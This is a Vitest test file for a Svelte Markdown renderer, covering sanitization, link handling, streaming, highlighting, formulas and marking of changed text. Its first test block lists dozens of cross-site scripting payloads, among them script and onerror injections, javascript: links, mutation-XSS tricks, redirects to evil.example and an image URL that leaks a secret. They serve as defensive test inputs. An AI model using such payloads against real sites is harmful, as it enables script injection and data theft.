import { render } from 'svelte/server';
import { describe, expect, it } from 'vitest';
import { decode } from '../../lib/markdown/entities';
import { highlight } from '../../lib/markdown/highlight';
import { safeLink } from '../../lib/markdown/links';
import { blocks, reuse } from '../../lib/markdown/parse';
import type { Range } from '../../lib/text/places';
import Markdown from './Markdown.svelte';

/** What a browser would be given, without Svelte's marks. */
const html = (text: string, isGrowing = false, places: Range[] = []): string =>
  render(Markdown, { props: { text, isGrowing, places } }).body.replace(/<!--.*?-->/g, '');

/** Tags that a text may become; everything else has to stay letters. */
const TAGS = new Set(
  'div p h3 h4 h5 h6 ul ol li input blockquote table thead tbody tr th td hr strong em del code br a pre span button svg path'.split(' '),
);

function check(text: string): string {
  const made = html(text);
  for (const [whole, name] of made.matchAll(/<([a-z][a-z0-9-]*)(?:\s[^>]*)?>/gi)) {
    expect(TAGS, `${whole} out of ${text}`).toContain((name ?? '').toLowerCase());
    expect(whole).not.toMatch(/\son[a-z]+\s*=(?!"?\{)/i);
    const href = /\shref="([^"]*)"/.exec(whole)?.[1];
    if (href !== undefined) expect(href).toMatch(/^(https?:|mailto:)/);
    expect(whole).not.toMatch(/\s(?:src|srcset|style|srcdoc|action|formaction|xlink:href|background)\s*=/i);
  }
  return made;
}

describe('hostile text never becomes markup', () => {
  const attacks = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'a <b onmouseover="alert(1)">b</b>',
    '<svg><script>alert(1)</script></svg>',
    '<svg/onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<style>*{background:url(https://evil.example/)}</style>',
    '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\nscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:msgbox(1))',
    '[x](file:///etc/passwd)',
    '[x](//evil.example)',
    '[x](/hob/v1/status)',
    '[x](https://a.example/"onclick="alert(1))',
    '[x](<https://a.example/" onclick="alert(1)>)',
    '[x][y]\n\n[y]: javascript:alert(1) "t"',
    '![x](javascript:alert(1))',
    '![x](https://evil.example/steal?q=secret)',
    '![x"onerror="alert(1)](https://a.example/a.png)',
    '<javascript:alert(1)>',
    '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
    '```<img src=x onerror=alert(1)>\ncode\n```',
    '`<script>alert(1)</script>`',
    '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>1</script> | c |',
    '# <img src=x onerror=alert(1)>',
    '- [x] <img src=x onerror=alert(1)>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '<!-- --><script>alert(1)</script>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php echo 1 ?>',
    '</div></div><form action=https://evil.example><input name=q>',
    '**<u onclick=alert(1)>**',
    '\\<script>alert(1)</script>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
  ];

  it.each(attacks)('%s', (attack) => {
    for (const text of [attack, `Text ${attack} text`, `> ${attack}`, `1. ${attack}\n2. b`, `**${attack}**`]) check(text);
    // Nor while it grows.
    for (let end = 1; end <= attack.length; end += 1) check(attack.slice(0, end));
  });

  it('pictures are links, as fetching one tells that the answer was read', () => {
    expect(html('![Cat](https://pics.example/cat.png)')).toContain('>Cat (pics.example)</a>');
  });

  it('links say where they go and tell nothing to where they go', () => {
    expect(html('[bank](https://evil.example/login)')).toMatch(/title="evil\.example" target="_blank" rel="noopener noreferrer nofollow"/);
    expect(safeLink('mailto:a@b.example')?.host).toBe('a@b.example');
    expect(safeLink('javascript:alert(1)')).toBeNull();
  });
});

describe('text as people mean it', () => {
  it('has the usual shapes', () => {
    const made = check('# T\n\nA **b** *c* ~~d~~ `e` & <f> &amp; &copy;\n\n1. x\n2. y\n\n- [ ] z\n\n> q\n\n---\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |');
    for (const part of ['<h3', '<strong>b</strong>', '<em>c</em>', '<del>d</del>', '>e</code>', '&lt;f>', '©', '<ol', '<blockquote', '<hr', '<table', 'checkbox']) {
      expect(made).toContain(part);
    }
  });

  it('starts lists where they start', () => {
    expect(html('3. c\n4. d')).toContain('start="3"');
  });

  it('is read however deep it is', () => {
    for (const text of ['> '.repeat(3000) + 'x', '- '.repeat(2000) + 'x', '*'.repeat(20_000), '['.repeat(20_000), '`'.repeat(30_000)]) {
      const began = performance.now();
      expect(html(text).length).toBeGreaterThan(0);
      expect(performance.now() - began).toBeLessThan(4000);
    }
  });

  it('keeps what is done when it grows', () => {
    const before = blocks('One\n\nTwo', true);
    const after = reuse(before, blocks('One\n\nTwo and\n\nThree', true));
    expect(after[0]).toBe(before[0]);
    expect(after[1]).not.toBe(before[1]);
  });

  it('does not flicker before a fence is whole', () => {
    for (const end of ['`', '``', '-', '**', '~~']) expect(html(`Text\n\n${end}`, true)).toBe(html('Text'));
    expect(html('Text\n\n```js\nlet a', true)).toContain('let a');
  });

  it('decodes references to characters only', () => {
    expect(decode('&lt;b&gt; &#x1F642; &#0; &bogus; &constructor;')).toBe('<b> 🙂 \ufffd &bogus; &constructor;');
  });
});

describe('colours of code', () => {
  it('change nothing of it', () => {
    for (const [language, code] of [['python', 'def f(a):\n    return "<b>" + a  # c'], ['rust', "fn f<'a>() -> &'a str { \"x\" }"], ['html', '<a onclick="x">&amp;</a>']] as const) {
      const spans = highlight(code, language);
      expect(spans?.map((span) => span.text).join('')).toBe(code);
      expect(spans?.some((span) => span.classes.startsWith('hljs-'))).toBe(true);
    }
    expect(highlight('x', 'no-such-language')).toBeNull();
  });
});

describe('formulas', () => {
  const formulas = (text: string) =>
    blocks(text)
      .flatMap((token) => [token, ...('tokens' in token && token.tokens ? token.tokens : [])])
      .filter(({ type }) => type === 'math')
      .map((token) => [(token as { text: string }).text, (token as { isDisplay?: boolean }).isDisplay]);

  it('are told from money and from code', () => {
    expect(formulas('It is $x^2$, or \\(y\\).')).toEqual([['x^2', false], ['y', false]]);
    expect(formulas('$$\n\\frac{a}{b}\n$$\n\nand\n\n\\[ c \\]')).toEqual([['\\frac{a}{b}', true], ['c', true]]);
    for (const text of ['It costs $5 and $6.', '`$x$`', '```\n$$x$$\n```', '$ x $', 'a $x', '$$x', '\\(x', '$$ $$', `$${'x'.repeat(3000)}$`]) {
      expect(formulas(text), text).toEqual([]);
    }
  });

  it('are letters until they are drawn', () => {
    expect(check('a $\\href{javascript:alert(1)}{<img src=x onerror=alert(1)>}$ b')).toContain('&lt;img');
  });

  it('of any length are read in time', () => {
    for (const text of ['$', '\\(', '$x', '\\[', '$$a', '$a ']) {
      const began = performance.now();
      blocks(text.repeat(2000));
      expect(performance.now() - began, text).toBeLessThan(4000);
    }
  });
});

describe('places that were written anew', () => {
  const range = (text: string, word: string, before = 'old'): Range => ({ from: text.indexOf(word), to: text.indexOf(word) + word.length, before });
  const marks = (made: string) => [...made.matchAll(/<ins[^>]*>(.*?)<span/g)].map(([, inner]) => inner);
  /** What is read without the marks. */
  const bare = (made: string) => made.replace(/<span class="offscreen"> \(before: .*?\)<\/span>|<\/?ins[^>]*>/g, '');

  it('are marked, with what stood there', () => {
    const text = 'In Paris it rains.';
    expect(html(text, false, [range(text, 'Paris', '<b>"Rome"')])).toContain(
      '<ins title="Before: &lt;b>&quot;Rome&quot;">Paris<span class="offscreen"> (before: &lt;b>"Rome")</span></ins>',
    );
  });

  it('are marked in all that has text of its own, and nothing else changes', () => {
    for (const [text, word, inner] of [
      ['- In Paris\n- In Rome', 'Rome', 'Rome'],
      ['**In Paris** now', '**In Paris**', '<strong>In Paris</strong>'],
      ['**In Paris** now', 'Paris', 'Paris'],
      ['# Paris\n\nIt rains.', '# Paris', 'Paris'],
      ['> 1. Paris', 'Paris', 'Paris'],
      ['|a|b|\n|-|-|\n|Paris|2|', 'Paris', 'Paris'],
      ['Read [this](https://a.example/x) now', 'this', 'this'],
      ['A & B in Paris', 'A & B', 'A & B'.replace('&', '&amp;')],
    ] as const) {
      const made = html(text, false, [range(text, word)]);
      expect(marks(made), text).toEqual([inner]);
      expect(bare(made), text).toBe(html(text));
    }
  });

  it('have no mark where one would change how the text reads', () => {
    for (const [text, word] of [
      ['```\nlet paris = 1;\n```', 'paris'],
      ['see `paris` now', 'paris'],
      ['**In Paris** now', 'Paris** now'],
      ['$x^2$', 'x^2'],
      ['[this](https://a.example/x)', 'example/x'],
      ['https://a.example/x', 'a.example'],
      ['one\n\ntwo', 'one\n\ntwo'],
      ['a \ue000b\ue07f c', 'c'],
    ] as const) {
      const made = html(text, false, [range(text, word)]);
      expect(marks(made), text).toEqual([]);
      expect(made, text).toBe(html(text));
    }
  });

  it('are marked one by one: one that cannot be leaves the others', () => {
    const text = 'In Paris: `rain` and snow.';
    const made = html(text, false, [range(text, 'Paris', 'Rome'), range(text, 'rain'), range(text, 'snow', 'sun'), { from: 3, to: 3, before: 'gone' }]);
    expect(marks(made)).toEqual(['Paris', 'snow']);
    expect(made).toContain('(before: sun)');
    expect(bare(made)).toBe(html(text));
  });
});
